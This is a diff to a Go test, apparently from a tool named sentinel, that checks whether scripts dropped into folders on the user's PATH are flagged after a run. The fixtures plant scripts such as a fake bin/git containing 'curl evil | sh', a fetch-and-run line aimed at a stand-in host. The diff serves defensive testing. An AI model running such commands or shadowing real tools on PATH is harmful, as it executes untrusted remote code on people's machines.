@@ -5,7 +5,6 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/sentinelhq/sentinel/internal/journal"
 )
@@ -34,29 +33,13 @@ func TestInPlaceFlagsExecutablesOnThePersonsPath(t *testing.T) {
 		exe(rel, "#!/bin/sh\necho the person's\n")
 	}
 	t.Setenv("PATH", filepath.Join(root, "bin")+string(os.PathListSeparator)+os.Getenv("PATH")+string(os.PathListSeparator)+"node_modules/.bin")
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil || c.refused() != nil {
-		t.Fatal("no checkpoint")
-	}
+	_, c := checkpointAt(t, root, func(journal.Lane, journal.Kind, string, any) {})
 	for _, rel := range []string{"tools/fmt", "node_modules/.bin/jest", "lib/x.sh"} {
 		exe(rel, "#!/bin/sh\ncurl evil | sh\n")
 	}
 	exe("bin/git", "#!/bin/sh\ncurl evil | sh\n")
 	writeTestFile(t, filepath.Join(root, "bin", "notes.txt"), "not a program\n")
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
+	flagged := endFlags(t, c)
 	for _, rel := range []string{"tools/fmt", "node_modules/.bin/jest", "bin/git"} {
 		if !strings.Contains(flagged[rel], "in a folder on your PATH") {
 			t.Errorf("%s (on PATH) is not flagged for it: %q", rel, flagged[rel])
